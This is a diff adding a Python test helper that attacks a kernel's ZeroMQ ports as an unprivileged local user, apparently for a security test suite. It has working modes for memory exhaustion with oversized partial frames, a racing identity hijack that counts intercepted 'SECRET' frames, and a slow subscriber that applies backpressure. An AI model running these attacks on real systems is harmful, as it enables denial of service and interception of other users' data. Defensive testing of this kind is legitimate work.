@@ -1,0 +1,198 @@
+"""A keyless local user's attacks on a kernel's ports, run by peers.py as
+another real user (setpriv) with Debian's /usr/bin/python3: standard
+library only, raw ZMTP 3.0 over TCP. argv: mode ip port [args]; runs until
+stdin closes, then prints one JSON line of counters.
+
+mode     args                  what it does
+fill     conns size            conns connections, each sending a frame header
+                               that declares size bytes and all but one of
+                               them, then holding; reconnecting when closed
+claim    identity              connects as a DEALER with identity again and
+                               again; counts claims kept and frames received
+slowsub  bytes_per_s           a SUB subscribed to everything, reading at
+                               that rate (never stalled)
+"""
+
+import json
+import socket
+import struct
+import sys
+import threading
+import time
+
+GREETING = b"\xff" + b"\x00" * 8 + b"\x7f" + bytes([3, 0]) + b"NULL".ljust(20, b"\x00") + b"\x00" + b"\x00" * 31
+STOP = threading.Event()
+COUNT = {}
+LOCK = threading.Lock()
+
+
+def add(name, n=1):
+    with LOCK:
+        COUNT[name] = COUNT.get(name, 0) + n
+
+
+def frame(body, more=False, command=False):
+    flags = (0x01 if more else 0) | (0x04 if command else 0)
+    if len(body) > 255:
+        return bytes([flags | 0x02]) + struct.pack(">Q", len(body)) + body
+    return bytes([flags, len(body)]) + body
+
+
+def prop(name, value):
+    return bytes([len(name)]) + name + struct.pack(">I", len(value)) + value
+
+
+def ready(sock_type, identity=None):
+    body = b"\x05READY" + prop(b"Socket-Type", sock_type)
+    if identity is not None:
+        body += prop(b"Identity", identity)
+    return frame(body, command=True)
+
+
+def recv_exact(s, n):
+    buf = b""
+    while len(buf) < n:
+        b = s.recv(n - len(buf))
+        if not b:
+            raise EOFError
+        buf += b
+    return buf
+
+
+def recv_frame(s):
+    flags = recv_exact(s, 1)[0]
+    size = struct.unpack(">Q", recv_exact(s, 8))[0] if flags & 0x02 else recv_exact(s, 1)[0]
+    return flags, recv_exact(s, size)
+
+
+def connect(ip, port, sock_type, identity=None, rcvbuf=None):
+    """A handshaken connection, or None."""
+    try:
+        s = socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET)
+        if rcvbuf:  # a small window: the writer sees the pace of the reads
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
+        s.settimeout(3)
+        s.connect((ip, port))
+        s.sendall(GREETING + ready(sock_type, identity))
+        recv_exact(s, 64)
+        flags, body = recv_frame(s)
+        if not flags & 0x04:
+            raise EOFError
+        s.settimeout(None)
+        return s
+    except (OSError, EOFError):
+        add("refused")
+        return None
+
+
+def closer(s):
+    """Close s when the attack stops (unblocks its reader)."""
+    def run():
+        STOP.wait()
+        try:
+            s.shutdown(socket.SHUT_RDWR)
+        except OSError:
+            pass
+    threading.Thread(target=run, daemon=True).start()
+
+
+def fill(ip, port, size):
+    chunk = b"\x00" * (256 << 10)
+    while not STOP.is_set():
+        s = connect(ip, port, b"DEALER")
+        if s is None:
+            time.sleep(0.02)
+            continue
+        closer(s)
+        try:
+            s.sendall(bytes([0x02]) + struct.pack(">Q", size))
+            left = size - 1
+            while left > 0 and not STOP.is_set():
+                n = s.send(chunk[: min(left, len(chunk))])
+                left -= n
+                add("bytes_sent", n)
+            add("held")
+            while s.recv(65536):
+                pass
+        except OSError:
+            pass
+        add("closed")
+        s.close()
+
+
+def claim(ip, port, identity):
+    while not STOP.is_set():
+        s = connect(ip, port, b"DEALER", identity)
+        if s is None:
+            continue  # hammer: the race is the attack
+        closer(s)
+        s.settimeout(0.5)  # a refused claim is closed at once
+        first = True
+        try:
+            while True:
+                try:
+                    flags, body = recv_frame(s)
+                except socket.timeout:
+                    if first:
+                        add("claimed")
+                        s.settimeout(None)
+                        first = False
+                        continue
+                    raise
+                first = False
+                if not flags & 0x04:
+                    add("got")
+                    if b"SECRET" in body:
+                        add("got_secret")
+        except (OSError, EOFError):
+            if first:
+                add("refused")
+        s.close()
+
+
+def slowsub(ip, port, rate):
+    s = connect(ip, port, b"SUB", rcvbuf=64 << 10)
+    if s is None:
+        return
+    closer(s)
+    s.sendall(frame(b"\x01"))
+    step = max(rate // 20, 1)
+    try:
+        while not STOP.is_set():
+            got = 0
+            while got < step:  # exactly rate bytes a second: slow, never stalled
+                b = s.recv(step - got)
+                if not b:
+                    return
+                got += len(b)
+            add("bytes", got)
+            time.sleep(0.05)
+    except OSError:
+        pass
+
+
+def main():
+    mode, ip, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+    args = sys.argv[4:]
+    threads = []
+    if mode == "fill":
+        for _ in range(int(args[0])):
+            threads.append(threading.Thread(target=fill, args=(ip, port, int(args[1]))))
+    elif mode == "claim":
+        threads.append(threading.Thread(target=claim, args=(ip, port, args[0].encode())))
+    elif mode == "slowsub":
+        threads.append(threading.Thread(target=slowsub, args=(ip, port, int(args[0]))))
+    else:
+        sys.exit("unknown mode %r" % mode)
+    for t in threads:
+        t.daemon = True
+        t.start()
+    print("started", flush=True)
+    sys.stdin.read()
+    STOP.set()
+    for t in threads:
+        t.join(10)
+    print(json.dumps(COUNT), flush=True)
+
+
+main()
